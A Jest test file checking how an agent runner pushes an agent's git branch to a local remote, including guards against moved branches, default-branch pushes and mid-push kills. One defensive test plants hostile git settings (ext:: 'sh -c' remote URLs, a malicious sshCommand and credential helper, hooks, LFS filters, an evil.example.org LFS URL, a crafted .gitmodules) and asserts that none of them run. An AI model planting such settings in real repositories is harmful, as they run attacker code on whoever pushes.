// What becomes of an agent's branch when a push was asked for: real agents, real git, a remote on disk.
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { LocalAgents, SpawnRequest } from '#agents';
import { agentIdOf } from '#protocol';
import { admin, cleaned, eventually, Room } from '../../../../test/support/agents.js';

let room: Room;
let agents: LocalAgents;
beforeEach(async () => {
  room = await Room.make();
  agents = await room.open();
});
afterEach(() => room.close());

const remote = () => fileURLToPath(room.repository);
const git = (...args: string[]) =>
  execFileSync('git', ['-C', remote(), '-c', 'user.name=T', '-c', 'user.email=t@example.org', ...args], {
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
  }).trim();
const tip = (branch: string) => git('for-each-ref', '--format=%(objectname)', `refs/heads/${branch}`);

function wish(script: string, branch: string, change: Partial<SpawnRequest> = {}, evenDefault = false): SpawnRequest {
  const request = room.request(script, change);
  const args = { ...request.args, options: { push: { branch } } };
  return { ...request, args, push: { branch, evenDefault } };
}

async function pushed(script: string, branch: string, change: Partial<SpawnRequest> = {}, evenDefault = false) {
  const { agentId } = await agents.spawn(wish(script, branch, change, evenDefault));
  return eventually(
    () => agents.get(agentId),
    ({ cleanup }) => cleanup !== undefined,
    60_000,
  );
}

describe('a push', () => {
  test('makes the branch with the agent’s commit, and its result says so', async () => {
    const agent = await pushed('echo new > new', 'work/one');
    expect(agent).toMatchObject({ state: 'completed', exitReason: 'finished' });
    expect(agent.result?.push).toEqual({ branch: 'work/one', commit: agent.result?.commit });
    expect(tip('work/one')).toBe(agent.result?.commit);
    expect(git('show', 'work/one:new')).toBe('new');
    expect(agent).not.toHaveProperty('mayPush');
    expect(agent).not.toHaveProperty('judged');
    expect((await room.events()).find(({ type }) => type === 'agent.completed')?.data).toMatchObject({
      result: { push: { branch: 'work/one' } },
    });
  });

  test('moves a branch forward that is where the work began', async () => {
    git('branch', 'fix');
    const agent = await pushed('echo new > new', 'fix');
    expect(tip('fix')).toBe(agent.result?.commit);
    expect(git('rev-parse', 'fix^')).toBe(tip('main'));
  });

  test('never overwrites a branch that has moved; the agent fails and its work is kept', async () => {
    git('checkout', '--quiet', '-b', 'fix');
    git('commit', '--quiet', '--allow-empty', '--message', 'meanwhile');
    git('checkout', '--quiet', 'main');
    const before = tip('fix');
    const agent = await pushed('echo new > new', 'fix');
    expect(agent).toMatchObject({
      state: 'failed',
      exitReason: 'push_failed',
      cleanup: { worktree: { outcome: 'done' } },
    });
    expect(agent.result?.push).toEqual({ branch: 'fix', reason: expect.stringContaining('has moved') });
    expect(agent.reason).toMatch(/was not pushed/);
    expect(tip('fix')).toBe(before);
    expect((await agents.diff(agent.agentId)).text).toContain('+new');
  });

  test('goes to the default branch only when that is named in full', async () => {
    git('config', 'receive.denyCurrentBranch', 'ignore');
    const before = tip('main');
    const matched = await pushed('echo one > new', 'main');
    expect(matched).toMatchObject({ state: 'failed', exitReason: 'push_failed' });
    expect(matched.reason).toMatch(/default branch/);
    expect(tip('main')).toBe(before);
    const named = await pushed('echo two > new', 'main', {}, true);
    expect(named.state).toBe('completed');
    expect(tip('main')).toBe(named.result?.commit);
  });

  test('that the remote refuses says so', async () => {
    const agent = await pushed('echo new > new', 'main', {}, true);
    expect(agent).toMatchObject({ state: 'failed', exitReason: 'push_failed' });
    expect(agent.reason).toMatch(/The remote refuses `main`/);
  });

  test('of a run that failed or changed nothing does not happen', async () => {
    const failed = await pushed('echo new > new; exit 3', 'failed');
    expect(failed).toMatchObject({ state: 'failed', exitReason: 'exit_code' });
    expect(failed.result?.push?.reason).toMatch(/Only work that completed/);
    const idle = await pushed('true', 'idle');
    expect(idle).toMatchObject({ state: 'completed', result: { push: { branch: 'idle' } } });
    expect(idle.result?.push?.commit).toBeUndefined();
    expect(tip('failed') + tip('idle')).toBe('');
  });

  test('[F-7] that the door has not judged is refused before anything begins', async () => {
    const { push, ...rest } = wish('true', 'main');
    expect(push?.branch).toBe('main');
    await expect(agents.spawn(rest)).rejects.toMatchObject({
      code: 'invalid_request',
      field: 'args.options.push.branch',
    });
  });

  test('[S-8] asked for twice under one key is one agent and one branch', async () => {
    const named = { agentId: agentIdOf('local', 'once'), idk: 'once' };
    const both = await Promise.all([pushed('echo new > new', 'once', named), pushed('echo new > new', 'once', named)]);
    expect(both[0].result?.push).toEqual(both[1].result?.push);
    expect(tip('once')).toBe(both[0].result?.commit);
  });

  test('[K-15] a kill during the push ends it at once', async () => {
    const hook = join(remote(), '.git', 'hooks', 'pre-receive');
    const begun = join(room.folder, 'begun');
    writeFileSync(hook, `#!/bin/sh\ntouch ${begun}\nexec sleep 86408\n`);
    chmodSync(hook, 0o755);
    const { agentId } = await agents.spawn(wish('echo new > new', 'slow'));
    await eventually(() => Promise.resolve(existsSync(begun)), Boolean);
    const report = await agents.kill(agentId, admin, 'enough');
    expect(report).toMatchObject({ killed: [agentId], survivors: 0 });
    const agent = await cleaned(agents, agentId);
    expect(agent).toMatchObject({ state: 'killed', reason: 'enough', actor: admin });
    expect(agent.result?.push?.reason).toMatch(/cut off/);
    expect(tip('slow')).toBe('');
  });

  test('[W-4] takes nothing from what the agent left: no other remote, no hook, no helper, no filter, no submodule', async () => {
    const owned = join(room.folder, 'owned');
    const program = `touch ${owned}; false`;
    const script = `
      git config url.file:///elsewhere/.insteadOf file:///
      git config url.file:///elsewhere/.pushInsteadOf file:///
      git config core.sshCommand '${program}'; git config credential.helper '!${program}'
      git config core.askPass '${program}'; git config protocol.ext.allow always
      git config remote.origin.url 'ext::sh -c ${program}'; git config push.gpgSign true; git config gpg.program '${program}'
      git config filter.lfs.clean '${program}'; git config filter.lfs.process '${program}'; git config filter.lfs.required true
      mkdir -p .git/hooks hooks; git config core.hooksPath /work/hooks
      for hook in pre-push post-commit reference-transaction pre-auto-gc; do
        printf '#!/bin/sh\\n%s\\n' '${program}' > hooks/$hook; cp hooks/$hook .git/hooks/; done
      echo '* filter=lfs diff=lfs merge=lfs -text' > .gitattributes
      printf '[lfs]\\n url = https://evil.example.org\\n' > .lfsconfig
      printf '[submodule "x"]\\n path = x\\n url = ext::sh -c ${program}\\n update = !${program}\\n' > .gitmodules
      mkdir -p .git/objects/info; echo /etc > .git/objects/info/alternates
      echo new > new; chmod +x hooks/* .git/hooks/*; exit 0`;
    const agent = await pushed(script, 'hostile');
    expect(agent).toMatchObject({ state: 'completed', result: { push: { branch: 'hostile' } } });
    expect(tip('hostile')).toBe(agent.result?.commit);
    expect(git('show', 'hostile:new')).toBe('new');
    expect(existsSync(owned)).toBe(false);
  });
});
